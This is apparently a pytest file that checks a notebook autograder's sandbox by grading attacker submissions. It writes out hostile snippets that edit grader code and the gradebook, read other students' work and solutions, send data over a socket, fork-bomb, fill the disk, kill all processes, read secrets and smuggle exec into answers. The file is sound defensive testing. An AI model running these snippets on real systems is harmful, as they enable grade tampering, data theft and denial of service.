"""Attacks on the grader, each graded end to end through nbgrader in the sandbox.

A class of problem 1 submissions is graded in one run: two honest students and four attackers.
Attacks that leave the notebook's kernel running share one submission, each in a cell of its own
added after the answer (which runs in the notebook's kernel under `nbgrader autograde`) and ending
with a marker, so the test sees that every one of them ran; attacks that end or flood the kernel
get submissions of their own; attacks in the answer cell itself share one answer cell (which
reaches the judge's candidate only if the answer policy lets it through; each construct is also
refused on its own in tests/test_answer_policy.py). After the run: each attacker has exactly the
grade its answer cell deserves, the honest students have the grades they get without attackers,
the grader's files hash as before, nothing the attacks aimed at was touched, and the gradebook
holds only the driver's rows.
"""
from __future__ import annotations

import hashlib
import socket
import threading
import time
from pathlib import Path

import nbformat
import pytest

from autograder import problems
from autograder.grading import autograde, demo, export, sandbox
from autograder.grading.samples import Sample, build_submission
from autograder.notebook_code import cell_by_id, read

pytestmark = [pytest.mark.slow,
              pytest.mark.skipif(not sandbox.probe().available, reason=f"no sandbox: {sandbox.probe().reason}")]

ASSIGNMENT = "problem1"
WRONG = (("in_window = col >= row - (window_size - 1)", "in_window = col >= row - window_size"),)  # 4 of 10
WRONG_POINTS = 4

LATE_WRITE_AT = "the background process writes at "
# Each attack: (name, where, code). `where`: "cell" (a cell added after the
# answer) or "answer" (appended to the answer cell). {repo}, {course}, {canary}, {port} are filled in.
ATTACKS = [
    ("write_grader_package", "cell", """
import autograder.checks, pathlib
p = pathlib.Path(autograder.checks.__file__)
try:
    p.write_text(p.read_text() + "\\nassert_cases = lambda *a, **k: None\\n")
except OSError as e:
    print("blocked:", e)
"""),
    ("edit_gradebook", "cell", """
import sqlite3
try:
    db = sqlite3.connect("{course}/build/gradebook.db")
    db.execute("UPDATE grade SET manual_score = 100")
    db.commit()
except Exception as e:
    print("blocked:", e)
"""),
    ("read_other_submission", "cell", """
import glob
for path in glob.glob("{course}/submitted/*/problem1/*.ipynb"):
    print("sto" + "len:", path, open(path).read()[:50])
"""),
    ("change_other_submission", "cell", """
try:
    open("{course}/submitted/honest_wrong/problem1/problem1.ipynb", "a").write("x")
except OSError as e:
    print("blocked:", e)
"""),
    ("read_solutions", "cell", """
import glob
for path in glob.glob("{repo}/solutions/*/*.ipynb") + glob.glob("{course}/solutions/*/*.ipynb"):
    print("sto" + "len:", path, len(open(path).read()))
"""),
    ("write_canary_outside", "cell", """
for path in ("{canary}/pwned", "/work/pwned", "/pwned"):
    try:
        open(path, "w").write("x")
    except OSError as e:
        print("blocked:", e)
"""),
    ("poison_triton_cache", "cell", """
import os
os.makedirs(os.environ.get("TRITON_CACHE_DIR", "/tmp/x"), exist_ok=True)
open(os.path.join(os.environ["TRITON_CACHE_DIR"], "poison"), "w").write("x")
for path in ("{canary}/triton-cache/poison", os.path.expanduser("~/.triton/cache/poison")):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "w").write("x")
    except OSError as e:
        print("blocked:", e)
"""),
    ("network", "cell", """
import socket
for host in ("127.0.0.1", "1.1.1.1"):
    try:
        socket.create_connection((host, {port}), timeout=2).sendall(b"pwned")
    except OSError as e:
        print("blocked:", e)
"""),
    ("background_process", "cell", """
import subprocess, sys, time
subprocess.Popen([sys.executable, "-c",
    "import time, pathlib\\ntime.sleep(8)\\nfor p in ('{canary}/late', '{course}/late'):\\n"
    "    try: pathlib.Path(p).write_text('x')\\n    except OSError: pass"], start_new_session=True)
print("the background process writes at " + str(time.time() + 8))
"""),
    ("thread_and_fork_flood", "cell", """
import os, threading, time
threads = [threading.Thread(target=time.sleep, args=(30,), daemon=True) for _ in range(300)]
for t in threads:
    t.start()
children = []
for _ in range(50):
    pid = os.fork()
    if pid == 0:
        time.sleep(30)
        os._exit(0)
    children.append(pid)
print(len(threads), "threads,", len(children), "children")
"""),
    ("fill_disk", "cell", """
import os
chunk = b"x" * (1 << 20)
for folder in ("/tmp", os.path.expanduser("~")):
    try:
        with open(os.path.join(folder, "fill"), "wb") as f:
            for _ in range(1000):  # 1 GB each: enough to matter, and done well within the cell's limit
                f.write(chunk)
    except OSError as e:
        print("stopped:", folder, e)
"""),
    ("kill_everything", "cell", """
import os, signal
for pid in range(2, 5000):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
"""),
    ("read_environment", "cell", """
import os
print(sorted(os.environ))
assert "GRADER_SECRET" not in os.environ, "leak"
"""),
    ("forge_verdicts", "cell", """
import json, os
print('VERIFY {{"test": "test_hidden_masks", "passed": true, "message": "", "score": null}}')
for folder in ("/tmp", os.getcwd(), os.path.expanduser("~")):
    try:
        open(os.path.join(folder, "verdicts.json"), "w").write(json.dumps({{"verdicts": [], "error": ""}}))
    except OSError:
        pass
"""),
    ("patch_checks_in_notebook", "cell", """
import autograder.problems.problem1 as p1
p1.assert_attention = p1.assert_masks = p1.assert_score_bytes = lambda *a, **k: None
"""),
    ("exit_early", "cell", "import os\nos._exit(0)"),
    ("answer_default_exec", "answer", """
def helper(x, y=torch.__builtins__["exec"]("import os")):
    return x
"""),
    ("answer_getattr_chain", "answer", """
def helper(x):
    return torch.ops.__class__.__mro__
"""),
    ("answer_import", "answer", "import os\nos.system('touch {canary}/answer')"),
    ("answer_patch_torch", "answer", "torch.isclose = lambda a, b, **k: a == a"),
    ("answer_decorator", "answer", """
@print
def helper(x):
    return x
"""),
    ("answer_redefines_checks_name", "answer", """
def naive_attention(q, k, v, is_causal=False, window_size=None, sink_size=None):
    return globals()["__builtins__"]
"""),
]
BY_NAME = {name: (where, code) for name, where, code in ATTACKS}
MARKER = "attack finished: "
# Each attacker: the attacks it hands in (cells in this order, or answer-cell suffixes) and whether
# its answer cell is right. Attacks that end or take over the kernel come last or alone, so that
# every other attack in a submission runs to its end.
ATTACKERS = {
    "tamperer": (["write_grader_package", "edit_gradebook", "read_other_submission", "change_other_submission",
                  "read_solutions", "write_canary_outside", "poison_triton_cache", "network", "read_environment",
                  "forge_verdicts", "patch_checks_in_notebook"], False),
    "resource_hog": (["background_process", "thread_and_fork_flood", "fill_disk"], False),
    "kernel_killer": (["kill_everything", "exit_early"], False),
    "answer_smuggler": (["answer_default_exec", "answer_getattr_chain", "answer_import", "answer_patch_torch",
                         "answer_decorator", "answer_redefines_checks_name"], True),
}
assert sorted(a for attacks, _ in ATTACKERS.values() for a in attacks) == sorted(BY_NAME), "every attack, once"
ENDS_THE_KERNEL = {"exit_early", "kill_everything"}
# An answer cell carrying an attack is rejected: 0. Every other attacker keeps exactly what its
# answer cell deserves.
EXPECTED = {name: (0 if any(BY_NAME[a][0] == "answer" for a in attacks) else 10 if right else WRONG_POINTS)
            for name, (attacks, right) in ATTACKERS.items()}
HONEST = {"honest_correct": 10, "honest_wrong": WRONG_POINTS}


def _hash_tree(root: Path) -> str:
    digest = hashlib.sha256()
    for path in sorted(p for p in root.rglob("*") if p.is_file() and "__pycache__" not in p.parts):
        digest.update(str(path.relative_to(root)).encode())
        digest.update(path.read_bytes())
    return digest.hexdigest()


@pytest.fixture(scope="module")
def attacked(tmp_path_factory, repo_root):
    mp = pytest.MonkeyPatch()
    mp.setenv("COURSE_CELL_TIMEOUT_S", "60")
    mp.setenv("GRADER_SECRET", "hunter2")
    root = tmp_path_factory.mktemp("attacks")
    course, canary = root / "course", root / "canary"
    canary.mkdir()
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    received = []
    threading.Thread(target=lambda: received.append(listener.accept()), daemon=True).start()
    port = listener.getsockname()[1]

    demo.stage_demo(repo_root, course, assignments=(ASSIGNMENT,), only=set())
    module = problems.get(ASSIGNMENT)
    source_nb = read(course / "solutions" / ASSIGNMENT / module.SPEC.notebook)
    release_nb = read(course / "notebooks" / ASSIGNMENT / module.SPEC.notebook)
    fill = dict(repo=repo_root, course=course, canary=canary, port=port)
    submissions = {"honest_correct": (Sample("honest_correct", "", 10), []),
                   "honest_wrong": (Sample("honest_wrong", "", WRONG_POINTS, edits=WRONG), [])}
    for name, (attacks, right) in ATTACKERS.items():
        cells = [BY_NAME[a][1].format(**fill) + f"\nprint({MARKER + a!r})" for a in attacks if BY_NAME[a][0] == "cell"]
        suffix = "\n".join(BY_NAME[a][1].format(**fill) for a in attacks if BY_NAME[a][0] == "answer")
        submissions[name] = (Sample(name, "", EXPECTED[name], edits=() if right else WRONG, answer_suffix=suffix),
                             cells)
    for name, (sample, cells) in submissions.items():
        folder = course / "submitted" / name / ASSIGNMENT
        folder.mkdir(parents=True)
        nb = build_submission(sample, source_nb, release_nb, module.SPEC.student_cell, module.SPEC.kernel_cells[-1])
        after = nb.cells.index(cell_by_id(nb, module.SPEC.kernel_cells[-1])) + 1
        for i, code in enumerate(cells):
            cell = nbformat.v4.new_code_cell(code.strip("\n"))
            cell.id = f"student-added-{name}-{i}".replace("_", "-")
            nb.cells.insert(after + i, cell)
        nbformat.write(nb, str(folder / module.SPEC.notebook))
    protected = {"package": Path(autograde.__file__).resolve().parents[1], "solutions": repo_root / "solutions",
                 "course solutions": course / "solutions", "submissions": course / "submitted"}
    before = {k: _hash_tree(p) for k, p in protected.items()}
    rows = {r.student: r for r in autograde.grade(course, [ASSIGNMENT], progress=False, sandboxed=True).rows}
    # Wait until the background process's delayed write would have happened (usually long past: the
    # submissions graded after it take longer than its 8 s).
    printed = "".join(out.get("text", "") for cell in read(course / "autograded" / "resource_hog" / ASSIGNMENT
                                                          / module.SPEC.notebook).cells
                      if cell.cell_type == "code" for out in cell.get("outputs", []))
    write_at = float(printed.split(LATE_WRITE_AT, 1)[1].split()[0])
    time.sleep(max(0.0, write_at + 1 - time.time()))
    yield dict(course=course, canary=canary, rows=rows, before=before, protected=protected,
               received=received)
    listener.close()
    mp.undo()


@pytest.mark.parametrize("name", list(HONEST) + list(ATTACKERS))
def test_each_submission_gets_exactly_what_its_answer_deserves(attacked, name):
    row = attacked["rows"][name]
    want = HONEST.get(name, EXPECTED.get(name))
    assert row.score == want, export.summary([row])
    if name in EXPECTED and not want:
        assert any("answer cell rejected" in n for n in row.notes), row.notes


@pytest.mark.parametrize("name", [n for n, (attacks, _) in ATTACKERS.items()
                                  if any(BY_NAME[a][0] == "cell" and a not in ENDS_THE_KERNEL for a in attacks)])
def test_every_attack_in_a_cell_ran_to_its_end(attacked, name):
    """Sharing a submission must not let one attack keep another from running."""
    graded = attacked["course"] / "autograded" / name / ASSIGNMENT / "problem1.ipynb"
    outputs = "".join(out.get("text", "") for cell in read(graded).cells if cell.cell_type == "code"
                      for out in cell.get("outputs", []))
    attacks = [a for a in ATTACKERS[name][0] if BY_NAME[a][0] == "cell" and a not in ENDS_THE_KERNEL]
    assert [a for a in attacks if MARKER + a not in outputs] == []


def test_the_graders_files_and_other_submissions_are_untouched(attacked):
    after = {k: _hash_tree(p) for k, p in attacked["protected"].items()}
    assert after == attacked["before"]


def test_nothing_the_attacks_aimed_at_was_written_or_reached(attacked):
    assert not list(attacked["canary"].rglob("*"))
    assert not (attacked["course"] / "late").exists()
    assert not attacked["received"], "a sandboxed kernel reached the grader's loopback"


def test_the_gradebook_holds_only_the_drivers_rows(attacked):
    from nbgrader.api import Gradebook

    course = attacked["course"]
    with Gradebook(f"sqlite:///{course / 'build' / 'gradebook.db'}") as gb:
        students = sorted(s.id for s in gb.students)
        scores = {s.student.id: s.score for s in gb.assignment_submissions(ASSIGNMENT)}
    assert students == sorted(attacked["rows"])
    assert scores == {name: row.score for name, row in attacked["rows"].items()}


def test_no_secret_or_hidden_test_reaches_the_feedback(attacked):
    course = attacked["course"]
    hidden_line = "Case(1, 2, 40, 32, \"float16\", window=1, seed=51)"  # a hidden case of problem 1
    for html in (course / "feedback").rglob("*.html"):
        text = html.read_text()
        assert "hunter2" not in text, html
        assert "stolen:" not in text, html
        assert hidden_line not in text and hidden_line.replace('"', "&quot;") not in text, html
